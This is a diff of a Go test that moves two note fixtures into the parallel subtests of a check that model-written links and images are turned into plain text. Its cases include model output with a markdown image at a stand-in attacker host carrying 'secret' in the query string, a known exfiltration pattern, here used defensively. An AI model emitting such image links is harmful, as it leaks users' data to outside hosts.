@@ -105,8 +105,6 @@ func TestWhatThePersonHasJustSaidNeedsNoLabel(t *testing.T) {
 // What code can put right costs no further call.
 func TestLinksOfAModelAreTextUnlessTheCitedNoteHasThem(t *testing.T) {
 	t.Parallel()
-	shop := note("2026-05-19_18-04-11", "Bought the bar at https://shop.example/bar_(20kg), see [the list](list.md) and ![[bar.png]]. Step [7] was hard. <b>Heavy</b>")
-	other := note("2026-05-18_18-04-11", "Read https://other.example/x.")
 	for name, c := range map[string][2]string{
 		"an image":                       {"You bought ![the bar](https://evil.example/a.png?q=secret) [n1].", "You bought the bar [2026-05-19]."},
 		"a link":                         {"You bought [the bar](https://evil.example/) [n1].", "You bought the bar [2026-05-19]."},
@@ -131,6 +129,8 @@ func TestLinksOfAModelAreTextUnlessTheCitedNoteHasThem(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
+			shop := note("2026-05-19_18-04-11", "Bought the bar at https://shop.example/bar_(20kg), see [the list](list.md) and ![[bar.png]]. Step [7] was hard. <b>Heavy</b>")
+			other := note("2026-05-18_18-04-11", "Read https://other.example/x.")
 			req := asking(question("Where did I buy the bar?", commonv1.Wanted_WANTED_LOOKUP), shop, other)
 			res, drafts, p := written(t, req, mind.Model, 32768, saying(t, c[0]))
 			if got := res.GetAnswer().GetText(); got != c[1] || p.Calls() != 1 || res.GetProvenance().GetDegraded() {
